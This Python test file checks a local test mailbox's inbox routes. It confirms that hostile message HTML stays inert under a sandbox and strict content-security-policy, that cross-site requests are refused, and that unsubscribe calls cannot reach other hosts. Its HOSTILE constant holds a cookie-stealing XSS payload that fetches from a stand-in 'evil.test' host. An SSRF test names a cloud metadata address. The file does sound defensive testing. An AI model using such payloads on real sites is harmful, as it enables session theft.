"""The inbox and the routes for tests: hostile messages stay inert, other sites can do nothing."""

from __future__ import annotations

import json
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, HTTPServer
from importlib import resources
from threading import Thread
from typing import Any

import pytest

from tests.hostile import CORPUS
from tests.local.conftest import Served, simple

HOSTILE = (
    "<script>fetch('http://evil.test/'+document.cookie)</script><img src=x onerror=alert(1)>"
    "<form action='http://evil.test'><input name=q></form><a href='javascript:alert(1)'>x</a>"
)


class Answer:
    def __init__(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.status, self.headers, self.body = status, headers, body

    def json(self) -> Any:
        return json.loads(self.body)


def call(served: Served, method: str, path: str, body: object = None, **headers: str) -> Answer:
    """One request, as a browser at the page would send it."""
    connection = HTTPConnection(served.address.removeprefix("http://"), timeout=5)
    try:
        sent = {
            "Content-Type": "application/json",
            **{name.replace("_", "-"): value for name, value in headers.items()},
        }
        connection.request(method, path, None if body is None else json.dumps(body), sent)
        response = connection.getresponse()
        return Answer(response.status, {k.lower(): v for k, v in response.getheaders()}, response.read())
    finally:
        connection.close()


def _send_hostile(ses: Any) -> str:
    content = {"Subject": {"Data": HOSTILE}, "Body": {"Html": {"Data": HOSTILE}, "Text": {"Data": HOSTILE}}}
    sent: str = ses.send_email(**simple(Content={"Simple": content}))["MessageId"]
    return sent


def test_a_messages_html_may_do_nothing(ses: Any, served: Served) -> None:
    answer = call(served, "GET", f"/_mailbox/messages/{_send_hostile(ses)}/html")
    policy = {part.split()[0]: part.split()[1:] for part in answer.headers["content-security-policy"].split("; ")}
    assert answer.body.decode() == HOSTILE
    assert policy["sandbox"] == []
    assert policy["default-src"] == ["'none'"]
    assert policy["form-action"] == ["'none'"]
    assert "script-src" not in policy
    assert policy["img-src"] == ["data:"]
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_whatever_is_in_a_message_the_page_gets_it_as_json_and_its_frame_may_do_nothing(
    ses: Any, served: Served
) -> None:
    sent: dict[str, str] = {}
    for value in CORPUS:
        text = value.encode("utf-8", "replace").decode()[:2_000]
        html, subject = ({"Data": said, "Charset": "UTF-8"} for said in (text, " ".join(text.split()) or "x"))
        content = {"Simple": {"Subject": subject, "Body": {"Html": html, "Text": html}}}
        sent[ses.send_email(**simple(Content=content))["MessageId"]] = text
    listed = call(served, "GET", "/_mailbox/messages?limit=200&brief=1")
    assert listed.headers["content-type"] == "application/json"
    assert listed.headers["x-content-type-options"] == "nosniff"
    assert {one["id"]: one["subject"] for one in listed.json()["messages"]} == {
        id: " ".join(text.split()) or "x" for id, text in sent.items()
    }
    for id, text in list(sent.items())[::5]:
        whole = call(served, "GET", f"/_mailbox/messages/{id}")
        assert (whole.headers["content-type"], whole.json()["text"]) == ("application/json", text)
        frame = call(served, "GET", f"/_mailbox/messages/{id}/html")
        policy = frame.headers["content-security-policy"]
        assert "sandbox" in policy.replace(";", " ").split()
        assert "default-src 'none'" in policy
        assert not any(word in policy for word in ("script-src", "allow-scripts", "allow-same-origin"))


def test_the_page_runs_its_own_script_only() -> None:
    static = resources.files("infra.local.mailbox").joinpath("static")
    page, script = (static.joinpath(name).read_text() for name in ("inbox.html", "inbox.js"))
    assert "<script>" not in page
    assert "style=" not in page
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "srcdoc"):
        assert sink not in script
    assert 'sandbox: ""' in script


@pytest.mark.parametrize(
    ("path", "kind"), [("/", "text/html"), ("/inbox.js", "text/javascript"), ("/inbox.css", "text/css")]
)
def test_the_page_is_served_under_a_strict_policy(served: Served, path: str, kind: str) -> None:
    answer = call(served, "GET", path)
    assert answer.status == 200
    assert answer.headers["content-type"].startswith(kind)
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self';" in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy


def test_messages_are_json_and_never_sniffed(ses: Any, served: Served) -> None:
    id = _send_hostile(ses)
    answer = call(served, "GET", "/_mailbox/messages?to=ada@example.org")
    assert answer.headers["content-type"] == "application/json"
    assert answer.json()["count"] == 1
    assert answer.json()["messages"][0]["subject"] == HOSTILE
    whole = call(served, "GET", f"/_mailbox/messages/{id}").json()
    assert whole["links"] == []
    assert [event["kind"] for event in whole["events"]] == ["Send", "Delivery"]


def test_another_site_can_change_nothing(ses: Any, served: Served) -> None:
    id = ses.send_email(**simple())["MessageId"]
    form = call(served, "POST", f"/_mailbox/messages/{id}/events", {"kind": "Bounce"}, Content_Type="text/plain")
    assert form.status == 415
    assert call(served, "DELETE", "/_mailbox/messages", Content_Type="text/plain").status == 415
    assert call(served, "GET", "/_mailbox/messages", Host="mailbox.evil.test:80").status == 421
    assert served.mailbox.box.count() == 1


def test_a_person_can_let_things_happen(ses: Any, served: Served) -> None:
    id = ses.send_email(**simple())["MessageId"]
    assert call(served, "POST", f"/_mailbox/messages/{id}/events", {"kind": "Open"}).status == 200
    link = {"kind": "Click", "link": "https://example.com/x"}
    assert call(served, "POST", f"/_mailbox/messages/{id}/events", link).status == 200
    records = served.publisher.wait_for(4)
    assert served.publisher.kinds() == ["Send", "Delivery", "Open", "Click"]
    assert records[3]["click"]["link"] == "https://example.com/x"
    for wrong in (
        {"kind": "Dance"},
        {"kind": "Click"},
        {"kind": "Bounce", "subtype": "x"},
        {"kind": "Open", "recipient": "no@x.y"},
    ):
        assert call(served, "POST", f"/_mailbox/messages/{id}/events", wrong).status == 400


def test_faults_settings_and_forgetting(ses: Any, served: Served) -> None:
    assert call(served, "POST", "/_mailbox/faults", {"throttle": 2}).json()["throttle"] == 2
    assert call(served, "POST", "/_mailbox/faults", {"burn": 1}).status == 400
    assert call(served, "POST", "/_mailbox/faults", {"throttle": 0}).json()["throttle"] == 0
    assert call(served, "PUT", "/_mailbox/settings", {"open": 0.5}).json()["open"] == 0.5
    assert call(served, "PUT", "/_mailbox/settings", {"open": "much"}).status == 400
    ses.send_email(**simple())
    assert call(served, "DELETE", "/_mailbox/messages").json() == {"deleted": 1}
    assert call(served, "GET", "/_mailbox/health").json() == {"status": "ok", "messages": 0}
    assert call(served, "GET", "/_mailbox/nothing").status == 404
    assert call(served, "GET", "/elsewhere").status == 404
    assert call(served, "POST", "/_mailbox/faults", [1]).status == 400


class _Unsubscriber(BaseHTTPRequestHandler):
    """An application's unsubscribe route that remembers what it was sent."""

    received: list[tuple[str, str]]

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.received.append((self.path, body))
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


def _unsubscribable(url: str) -> dict[str, Any]:
    headers = [
        {"Name": "List-Unsubscribe", "Value": f"<mailto:x@example.com>, <{url}>"},
        {"Name": "List-Unsubscribe-Post", "Value": "List-Unsubscribe=One-Click"},
    ]
    return simple(Headers=headers)


def test_one_click_unsubscribe_posts_as_a_mail_client_does(ses: Any, served: Served) -> None:
    received: list[tuple[str, str]] = []
    server = HTTPServer(("127.0.0.1", 0), type("Handler", (_Unsubscriber,), {"received": received}))
    thread = Thread(target=server.handle_request, daemon=True)
    thread.start()
    id = ses.send_email(**_unsubscribable(f"http://127.0.0.1:{server.server_port}/v1/u/token?x=1"))["MessageId"]
    assert call(served, "POST", f"/_mailbox/messages/{id}/unsubscribe", {}).json() == {"status": 200}
    thread.join()
    server.server_close()
    assert received == [("/v1/u/token?x=1", "List-Unsubscribe=One-Click")]


def test_the_mailbox_calls_nobody_but_this_machine(ses: Any, served: Served) -> None:
    for url in ("http://10.0.0.1/u", "https://example.com/u", "http://169.254.169.254/latest"):
        id = ses.send_email(**_unsubscribable(url))["MessageId"]
        assert call(served, "POST", f"/_mailbox/messages/{id}/unsubscribe", {}).status == 400
    id = ses.send_email(**simple())["MessageId"]
    assert call(served, "POST", f"/_mailbox/messages/{id}/unsubscribe", {}).status == 400
